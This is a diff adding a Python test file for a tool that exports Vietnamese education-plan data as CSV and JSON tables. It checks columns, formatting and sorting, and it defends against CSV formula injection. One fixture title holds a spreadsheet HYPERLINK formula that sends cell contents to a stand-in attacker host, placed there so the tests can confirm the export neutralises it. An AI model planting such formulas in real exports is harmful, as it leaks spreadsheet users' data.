@@ -1,0 +1,545 @@
+"""The download tables: what press offices take into spreadsheets.
+
+The bundled content pins the facts people quote (Thái Nguyên's 60% in 2025,
+Cần Thơ's plan without number or day); a small tree built on the base
+fixture covers what the bundled content does not hold yet (reported
+results, a formula in a title, a negative figure).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import unicodedata
+from pathlib import Path
+
+import pytest
+
+from generator.export import (FORMULA_TRIGGERS, Column, Table, absolute_url, build_tables, csv_cell, number,
+                              table_csv, table_files, table_json)
+from generator.model import Hub
+from generator.pipeline import load_hub
+from tests.conftest import REPO
+
+SITE = "https://xhht.example.vn/"
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+
+# A third plan over the base tree: formula-like text, no number, a year-only
+# date, a basis cited twice, a figure with no value, and reported results
+# (one of them negative, since a count can fall).
+EXTRA_PLAN = f"""\
+id: kh-9-ubnd-mau-2023
+type: ke-hoach
+number: null
+title: '{HYPERLINK.replace("'", "''")}'
+issuer:
+  body: ubnd-tinh-mau
+  name: ỦY BAN NHÂN DÂN TỈNH MẪU
+  level: tinh
+locality: tinh-mau
+date: "2023"
+period:
+  from: 2023
+  to: 2030
+legal_bases:
+  - kind: can-cu
+    text: Kế hoạch số 2/KH-UBND
+    document: kh-2-ubnd-mau-2022
+  - kind: can-cu
+    text: Quyết định số 1/QĐ-TTg
+    document: qd-1-ttg-2021
+  - kind: khac
+    text: Kế hoạch số 2/KH-UBND (nhắc lại)
+    document: kh-2-ubnd-mau-2022
+  - kind: khac
+    text: Một văn bản chưa có trong kho
+sections:
+  - label: I.
+    heading: MỤC TIÊU
+    items:
+      - label: "-"
+        text: "- Giảm số trường chưa đạt chuẩn; 55,55% hộ gia đình đạt danh hiệu."
+        targets:
+          - id: mau-2023-truong-2030
+            indicator: so-truong-chua-dat-chuan
+            value: null
+            unit: count
+            verb: giảm
+            year: 2030
+            actuals:
+              - year: 2024
+                value: -3
+                source: Báo cáo năm 2024
+              - year: 2023
+                value: 12.5
+                source: "@Báo cáo năm 2023"
+                url: https://example.vn/bao-cao-2023
+          - id: mau-2023-gdht-2025
+            indicator: gia-dinh-hoc-tap
+            value: 55.55
+            unit: percent
+            year: 2025
+            scope: các xã
+            group: b
+            level: mức độ 2
+source:
+  file: mau-9.txt
+  url: https://example.vn/kh-9
+"""
+
+COUNT_INDICATOR = """\
+id: so-truong-chua-dat-chuan
+name: Số trường chưa đạt chuẩn
+unit: count
+"""
+
+RESOURCE = """\
+id: hoc-lieu-mau
+name: "+Học liệu mẫu"
+provider: Nhà cung cấp mẫu
+url: https://example.vn/hoc-lieu
+description: "-Mô tả bắt đầu bằng gạch ngang"
+topics: [ky-nang-so, ngoai-ngu]
+audiences: [nguoi-lon]
+formats: [video]
+cost: mien-phi
+languages: [vi, en]
+"""
+
+EXAMPLES = {
+    "vi-du-gia-dinh-mau": """\
+id: vi-du-gia-dinh-mau
+model: gia-dinh-hoc-tap
+name: Gia đình mẫu
+illustrative: true
+private_persons: false
+locality: tinh-mau
+year: 2024
+summary: Ví dụ minh họa.
+story: Câu chuyện dài không có trong bảng tải về.
+""",
+    "don-vi-mau": """\
+id: don-vi-mau
+model: don-vi-hoc-tap
+name: Trường Tiểu học Mẫu
+illustrative: false
+private_persons: false
+summary: Đơn vị học tập.
+""",
+}
+
+#: The published column names, table by table: people build spreadsheets on
+#: them, so a change here is a breaking change for every reader.
+PUBLISHED_COLUMNS = {
+    "documents": ["id", "url", "number", "type", "title", "issuer_name", "issuer_body", "issuer_level", "place",
+                  "locality", "date", "date_precision", "signer_name", "period_from", "period_to", "transcription",
+                  "legal_basis_ids", "cited_by_ids", "target_count", "source_file", "source_url"],
+    "targets": ["id", "url", "document_id", "document_number", "indicator_id", "indicator_name", "value",
+                "comparator", "unit", "verb", "year", "scope", "group", "level", "locality", "text"],
+    "actuals": ["target_id", "url", "year", "value", "source", "source_url"],
+    "resources": ["id", "url", "name", "provider", "link", "topics", "audiences", "formats", "languages", "cost",
+                  "localities", "description"],
+    "examples": ["id", "url", "model", "name", "locality", "year", "illustrative", "summary"],
+}
+
+#: Letters only Vietnamese text has (lower case, NFC): a description without
+#: any is English or unaccented, neither of which readers of the page expect.
+VIETNAMESE_LETTERS = set("àáảãạăằắẳẵặâầấẩẫậđèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵ")
+
+
+# --- fixtures and helpers ---------------------------------------------------
+
+@pytest.fixture(scope="module")
+def real_hub() -> Hub:
+    result = load_hub(REPO)
+    assert result.ok, [p.format() for p in result.problems]
+    assert result.hub is not None
+    return result.hub
+
+
+@pytest.fixture(scope="module")
+def real_tables(real_hub: Hub) -> dict[str, Table]:
+    return {t.name: t for t in build_tables(real_hub, SITE)}
+
+
+@pytest.fixture
+def small_hub(base_tree: Path) -> Hub:
+    """The base tree plus EXTRA_PLAN, a count indicator, a resource and two examples."""
+    (base_tree / "plans" / "kh-9-ubnd-mau-2023.yml").write_text(EXTRA_PLAN, encoding="utf-8")
+    (base_tree / "content" / "indicators" / "so-truong-chua-dat-chuan.yml").write_text(COUNT_INDICATOR, encoding="utf-8")
+    (base_tree / "content" / "resources").mkdir()
+    (base_tree / "content" / "resources" / "hoc-lieu-mau.yml").write_text(RESOURCE, encoding="utf-8")
+    (base_tree / "content" / "examples").mkdir()
+    for ident, text in EXAMPLES.items():
+        (base_tree / "content" / "examples" / f"{ident}.yml").write_text(text, encoding="utf-8")
+    result = load_hub(base_tree, jobs=1)
+    assert [p.format() for p in result.problems] == []
+    assert result.hub is not None
+    return result.hub
+
+
+@pytest.fixture
+def small_tables(small_hub: Hub) -> dict[str, Table]:
+    return {t.name: t for t in build_tables(small_hub, SITE)}
+
+
+def json_of(table: Table) -> dict:
+    return json.loads(table_json(table).decode("utf-8"))
+
+
+def csv_rows(table: Table) -> list[list[str]]:
+    """The CSV as Python's csv module (and so any RFC 4180 reader) reads it back."""
+    text = table_csv(table).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def rows_by_id(table: Table) -> dict[str, dict]:
+    return {row["id"]: row for row in json_of(table)["rows"]}
+
+
+def expected_csv_cell(value) -> str:
+    """What a CSV cell must read as, written independently of the module under test."""
+    if value is None:
+        return ""
+    if isinstance(value, str):
+        return "'" + value if value[:1] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" and value else value
+    return str(value)
+
+
+def all_tables_of_both_hubs(real: dict[str, Table], small: dict[str, Table]) -> list[Table]:
+    return list(real.values()) + list(small.values())
+
+
+# --- the facts people quote (bundled content) ------------------------------
+
+def test_thai_nguyen_information_literacy_2025_is_60_at_its_permanent_address(real_tables):
+    rows = [r for r in json_of(real_tables["targets"])["rows"]
+            if r["document_id"] == "kh-104-ubnd-thai-nguyen-2022"
+            and r["indicator_id"] == "nang-luc-thong-tin" and r["year"] == 2025]
+    assert len(rows) == 1
+    row = rows[0]
+    assert row["value"] == 60 and isinstance(row["value"], int)
+    assert row["unit"] == "percent" and row["comparator"] == "="
+    assert row["url"].endswith("#" + row["id"])
+    assert row["url"] == f"{SITE}van-ban/kh-104-ubnd-thai-nguyen-2022/#{row['id']}"
+    assert row["document_number"] == "104/KH-UBND"
+    assert row["locality"] == "tinh-thai-nguyen"
+    assert "năng lực thông tin" in row["text"]
+    assert row["indicator_name"]
+
+
+def test_can_tho_plan_has_empty_number_and_year_only_date(real_tables):
+    table = real_tables["documents"]
+    row = rows_by_id(table)["kh-bcd-can-tho-2024"]
+    assert row["number"] is None
+    assert (row["date"], row["date_precision"]) == ("2024", "year")
+    csv_row = next(r for r in csv_rows(table) if r[0] == "kh-bcd-can-tho-2024")
+    names = [c.name for c in table.columns]
+    assert csv_row[names.index("number")] == ""
+    assert csv_row[names.index("date")] == "2024"
+    assert csv_row[names.index("date_precision")] == "year"
+
+
+def test_full_dates_say_day_precision(real_tables):
+    row = rows_by_id(real_tables["documents"])["kh-104-ubnd-thai-nguyen-2022"]
+    assert (row["date"], row["date_precision"]) == ("2022-07-04", "day")
+    assert row["signer_name"] == "Đặng Xuân Trường"
+    assert (row["period_from"], row["period_to"]) == (2022, 2030)
+    assert "qd-1373-ttg-2021" in row["legal_basis_ids"].split(";")
+
+
+def test_national_decision_lists_the_local_plans_citing_it(real_tables):
+    row = rows_by_id(real_tables["documents"])["qd-1373-ttg-2021"]
+    cited_by = row["cited_by_ids"].split(";")
+    assert {"kh-104-ubnd-thai-nguyen-2022", "kh-bcd-can-tho-2024"} <= set(cited_by)
+    assert cited_by == sorted(cited_by)
+
+
+def test_can_tho_55_55_prints_without_float_noise(real_tables):
+    """The figure is printed as the document gives it, in both formats."""
+    table = real_tables["targets"]
+    assert 55.55 in [r["value"] for r in json_of(table)["rows"]]
+    assert b": 55.55,\n" in table_json(table)
+    assert ",55.55," in table_csv(table).decode("utf-8-sig")
+
+
+def test_target_count_matches_the_targets_table(real_tables):
+    per_document: dict[str, int] = {}
+    for row in json_of(real_tables["targets"])["rows"]:
+        per_document[row["document_id"]] = per_document.get(row["document_id"], 0) + 1
+    for row in json_of(real_tables["documents"])["rows"]:
+        assert row["target_count"] == per_document.get(row["id"], 0), row["id"]
+
+
+# --- file format -----------------------------------------------------------
+
+def test_each_table_gives_a_json_and_a_csv_file(real_tables):
+    assert set(real_tables) == {"documents", "targets", "actuals", "resources", "examples"}
+    for table in real_tables.values():
+        assert set(table_files(table)) == {f"{table.name}.json", f"{table.name}.csv"}
+
+
+def test_csv_is_utf8_with_bom_and_crlf_line_ends(real_tables):
+    for table in real_tables.values():
+        data = table_files(table)[f"{table.name}.csv"]
+        assert data.startswith(b"\xef\xbb\xbf"), table.name
+        assert data.endswith(b"\r\n")
+        header = data[3:].split(b"\r\n", 1)[0].decode("ascii")
+        assert header == ",".join(c.name for c in table.columns)
+
+
+def test_csv_reads_back_to_the_json_values(real_tables, small_tables):
+    """Same rows, same order, same values: numbers as JSON prints them, None as empty."""
+    for table in all_tables_of_both_hubs(real_tables, small_tables):
+        document = json_of(table)
+        names = [c["name"] for c in document["columns"]]
+        parsed = csv_rows(table)
+        assert parsed[0] == names
+        assert len(parsed) - 1 == len(document["rows"]), table.name
+        for csv_row, json_row in zip(parsed[1:], document["rows"]):
+            assert csv_row == [expected_csv_cell(json_row[n]) for n in names], (table.name, json_row)
+
+
+def test_multi_paragraph_text_survives_the_csv(real_tables):
+    """Verbatim text with line breaks stays one cell (quoted), not extra rows."""
+    table = real_tables["targets"]
+    assert len(csv_rows(table)) == len(table.rows) + 1
+
+
+def test_json_layout(real_tables):
+    for table in real_tables.values():
+        data = table_json(table)
+        assert data.endswith(b"}\n") and not data.endswith(b"\n\n")
+        assert data.startswith(b'{\n "table": ')
+        document = json.loads(data)
+        assert list(document) == ["table", "title", "columns", "rows"]
+        assert document["table"] == table.name and document["title"] == table.title
+        assert [list(c) for c in document["columns"]] == [["name", "description"]] * len(table.columns)
+        for row in document["rows"]:
+            assert list(row) == [c.name for c in table.columns]
+    assert "Văn bản".encode() in table_json(real_tables["documents"])  # not \u escapes
+
+
+def test_rows_have_exactly_one_cell_per_column_of_plain_types(real_tables, small_tables):
+    for table in all_tables_of_both_hubs(real_tables, small_tables):
+        for row in table.rows:
+            assert len(row) == len(table.columns), table.name
+            for cell in row:
+                assert cell is None or type(cell) in (str, int, float), (table.name, cell)
+
+
+def test_rows_are_sorted_by_id_and_targets_by_document_then_id(real_tables):
+    for name in ("documents", "resources", "examples"):
+        ids = [row[0] for row in real_tables[name].rows]
+        assert ids == sorted(ids) and len(set(ids)) == len(ids), name
+    targets = json_of(real_tables["targets"])["rows"]
+    keys = [(r["document_id"], r["id"]) for r in targets]
+    assert keys == sorted(keys)
+
+
+def test_building_twice_gives_identical_bytes(real_hub):
+    first = [table_files(t) for t in build_tables(real_hub, SITE)]
+    second = [table_files(t) for t in build_tables(load_hub(REPO).hub, SITE)]
+    assert first == second
+
+
+def test_bytes_do_not_depend_on_the_order_records_were_loaded(small_hub: Hub):
+    shuffled = Hub(**{name: (dict(reversed(value.items())) if isinstance(value, dict) else value)
+                      for name, value in vars(small_hub).items()})
+    assert list(shuffled.documents) != list(small_hub.documents)
+    assert ([table_files(t) for t in build_tables(shuffled, SITE)]
+            == [table_files(t) for t in build_tables(small_hub, SITE)])
+
+
+# --- columns ------------------------------------------------------------------
+
+def test_column_names_are_the_published_interface(real_tables):
+    assert {name: [c.name for c in t.columns] for name, t in real_tables.items()} == PUBLISHED_COLUMNS
+
+
+def test_column_names_are_ascii_snake_case(real_tables):
+    for table in real_tables.values():
+        for column in table.columns:
+            assert re.fullmatch(r"[a-z][a-z0-9]*(_[a-z0-9]+)*", column.name), column.name
+
+
+def test_titles_and_column_descriptions_are_vietnamese_text(real_tables):
+    for table in real_tables.values():
+        for text in [table.title] + [c.description for c in table.columns]:
+            assert text.strip() == text and text, (table.name, text)
+            assert unicodedata.normalize("NFC", text) == text
+            assert VIETNAMESE_LETTERS & set(text.lower()), (table.name, text)
+
+
+@pytest.mark.parametrize("table,column,schema,pointer", [
+    ("documents", "type", "document", ("properties", "type")),
+    ("documents", "issuer_level", "common", ("definitions", "level")),
+    ("documents", "transcription", "document", ("properties", "transcription")),
+    ("targets", "comparator", "document", ("definitions", "target", "properties", "comparator")),
+    ("targets", "unit", "document", ("definitions", "target", "properties", "unit")),
+    ("resources", "cost", "resource", ("properties", "cost")),
+    ("examples", "model", "example", ("properties", "model")),
+])
+def test_coded_columns_explain_every_code_of_the_schema(real_tables, table, column, schema, pointer):
+    """A code added to the schema must be explained on the data page too."""
+    node = json.loads((REPO / "schema" / f"{schema}.schema.json").read_text(encoding="utf-8"))
+    for key in pointer:
+        node = node[key]
+    description = next(c.description for c in real_tables[table].columns if c.name == column)
+    for code in node["enum"]:
+        assert re.search(rf"(^|[\s:(,]){re.escape(code)}([\s(,.]|$)", description), (column, code)
+
+
+# --- CSV injection ------------------------------------------------------------
+
+def test_formula_in_a_title_is_defused_in_csv_only(small_tables):
+    table = small_tables["documents"]
+    assert rows_by_id(table)["kh-9-ubnd-mau-2023"]["title"] == HYPERLINK
+    names = [c.name for c in table.columns]
+    csv_row = next(r for r in csv_rows(table) if r[0] == "kh-9-ubnd-mau-2023")
+    assert csv_row[names.index("title")] == "'" + HYPERLINK
+
+
+def test_text_starting_with_a_dash_or_at_is_defused(small_tables):
+    targets = {r[0]: r for r in csv_rows(small_tables["targets"])}
+    assert targets["mau-2023-gdht-2025"][-1].startswith("'- Giảm")
+    resources = {r[0]: r for r in csv_rows(small_tables["resources"])}
+    assert resources["hoc-lieu-mau"][2] == "'+Học liệu mẫu"
+    assert resources["hoc-lieu-mau"][-1] == "'-Mô tả bắt đầu bằng gạch ngang"
+    actuals = csv_rows(small_tables["actuals"])
+    assert "'@Báo cáo năm 2023" in [row[4] for row in actuals]
+
+
+def test_negative_numbers_stay_numbers(small_tables):
+    actuals = json_of(small_tables["actuals"])["rows"]
+    assert -3 in [r["value"] for r in actuals]
+    assert "-3" in [row[3] for row in csv_rows(small_tables["actuals"])]
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"])
+def test_csv_cell_prefixes_formula_text(text):
+    assert text.startswith(FORMULA_TRIGGERS)
+    assert csv_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value,text", [(-5, "-5"), (-2.5, "-2.5"), (0, "0"), (55.55, "55.55"), (None, ""),
+                                        ("Bình thường", "Bình thường"), ("", ""), ("a=b", "a=b")])
+def test_csv_cell_leaves_numbers_and_plain_text_alone(value, text):
+    assert csv_cell(value) == text
+
+
+def test_a_synthetic_table_round_trips_negative_numbers_and_formulas():
+    table = Table("t", "Bảng thử", (Column("a", "Cột a"), Column("b", "Cột b")),
+                  (("=HYPERLINK(\"x\")", -5), ("-", -0.25), (None, 7)))
+    assert csv_rows(table) == [["a", "b"], ["'=HYPERLINK(\"x\")", "-5"], ["'-", "-0.25"], ["", "7"]]
+    assert json_of(table)["rows"] == [{"a": "=HYPERLINK(\"x\")", "b": -5}, {"a": "-", "b": -0.25},
+                                      {"a": None, "b": 7}]
+
+
+# --- small tree: the columns the bundled content does not exercise ---------
+
+def test_document_without_number_and_day(small_tables):
+    row = rows_by_id(small_tables["documents"])["kh-9-ubnd-mau-2023"]
+    assert (row["number"], row["date"], row["date_precision"]) == (None, "2023", "year")
+    assert (row["source_file"], row["source_url"]) == ("mau-9.txt", "https://example.vn/kh-9")
+    assert row["signer_name"] is None and row["place"] is None
+    assert row["target_count"] == 2
+
+
+def test_legal_bases_list_each_linked_document_once_in_document_order(small_tables):
+    rows = rows_by_id(small_tables["documents"])
+    assert rows["kh-9-ubnd-mau-2023"]["legal_basis_ids"] == "kh-2-ubnd-mau-2022;qd-1-ttg-2021"
+    assert rows["qd-1-ttg-2021"]["legal_basis_ids"] == ""
+    assert rows["qd-1-ttg-2021"]["cited_by_ids"] == "kh-2-ubnd-mau-2022;kh-9-ubnd-mau-2023"
+    assert rows["qd-1-ttg-2021"]["date_precision"] == "day"
+
+
+def test_targets_table_row(small_tables):
+    row = rows_by_id(small_tables["targets"])["mau-2023-gdht-2025"]
+    assert row == {
+        "id": "mau-2023-gdht-2025",
+        "url": SITE + "van-ban/kh-9-ubnd-mau-2023/#mau-2023-gdht-2025",
+        "document_id": "kh-9-ubnd-mau-2023",
+        "document_number": None,
+        "indicator_id": "gia-dinh-hoc-tap",
+        "indicator_name": "Tỷ lệ hộ gia đình được công nhận danh hiệu Gia đình học tập",
+        "value": 55.55,
+        "comparator": "=",
+        "unit": "percent",
+        "verb": None,
+        "year": 2025,
+        "scope": "các xã",
+        "group": "b",
+        "level": "mức độ 2",
+        "locality": "tinh-mau",
+        "text": "- Giảm số trường chưa đạt chuẩn; 55,55% hộ gia đình đạt danh hiệu.",
+    }
+    assert rows_by_id(small_tables["targets"])["mau-2023-truong-2030"]["value"] is None
+
+
+def test_targets_are_ordered_by_document_then_id(small_tables):
+    assert [r[0] for r in small_tables["targets"].rows] == [
+        "mau-2022-gdht-2025", "mau-2023-gdht-2025", "mau-2023-truong-2030"]
+
+
+def test_actuals_one_row_per_result_oldest_first(small_tables):
+    assert json_of(small_tables["actuals"])["rows"] == [
+        {"target_id": "mau-2023-truong-2030", "url": SITE + "van-ban/kh-9-ubnd-mau-2023/#mau-2023-truong-2030",
+         "year": 2023, "value": 12.5, "source": "@Báo cáo năm 2023", "source_url": "https://example.vn/bao-cao-2023"},
+        {"target_id": "mau-2023-truong-2030", "url": SITE + "van-ban/kh-9-ubnd-mau-2023/#mau-2023-truong-2030",
+         "year": 2024, "value": -3, "source": "Báo cáo năm 2024", "source_url": None},
+    ]
+
+
+def test_resource_lists_are_joined_codes(small_tables):
+    row = rows_by_id(small_tables["resources"])["hoc-lieu-mau"]
+    assert row["url"] == SITE + "hoc-lieu/hoc-lieu-mau/"
+    assert row["link"] == "https://example.vn/hoc-lieu"
+    assert (row["topics"], row["languages"], row["localities"]) == ("ky-nang-so;ngoai-ngu", "vi;en", "")
+
+
+def test_examples_carry_only_the_public_summary(small_tables):
+    rows = rows_by_id(small_tables["examples"])
+    assert rows["vi-du-gia-dinh-mau"]["illustrative"] == "true"
+    assert rows["don-vi-mau"]["illustrative"] == "false"
+    assert (rows["don-vi-mau"]["locality"], rows["don-vi-mau"]["year"]) == (None, None)
+    assert rows["vi-du-gia-dinh-mau"]["url"] == SITE + "guong-dien-hinh/vi-du-gia-dinh-mau/"
+    assert "Câu chuyện" not in table_json(small_tables["examples"]).decode()
+
+
+def test_empty_table_still_has_its_header(small_hub: Hub):
+    small_hub.examples.clear()
+    table = next(t for t in build_tables(small_hub) if t.name == "examples")
+    assert table.rows == ()
+    assert csv_rows(table) == [PUBLISHED_COLUMNS["examples"]]
+    assert json_of(table)["rows"] == []
+
+
+# --- addresses and numbers ----------------------------------------------------
+
+@pytest.mark.parametrize("site_url,expected", [
+    ("", "van-ban/x/"),
+    ("https://a.vn/", "https://a.vn/van-ban/x/"),
+    ("https://a.vn/xhht", "https://a.vn/xhht/van-ban/x/"),
+])
+def test_absolute_url(site_url, expected):
+    assert absolute_url(site_url, "van-ban/x/") == expected
+
+
+def test_without_site_url_addresses_are_relative_to_the_site_root(small_hub: Hub):
+    targets = next(t for t in build_tables(small_hub) if t.name == "targets")
+    assert targets.rows[0][1] == "van-ban/kh-2-ubnd-mau-2022/#mau-2022-gdht-2025"
+
+
+@pytest.mark.parametrize("value,expected", [(60, 60), (60.0, 60), (55.55, 55.55), (-3, -3), (None, None)])
+def test_number_keeps_figures_as_written(value, expected):
+    result = number(value)
+    assert result == expected and type(result) is type(expected)
+
+
+@pytest.mark.parametrize("value", [True, "60"])
+def test_number_refuses_what_is_not_a_figure(value):
+    with pytest.raises(TypeError):
+        number(value)
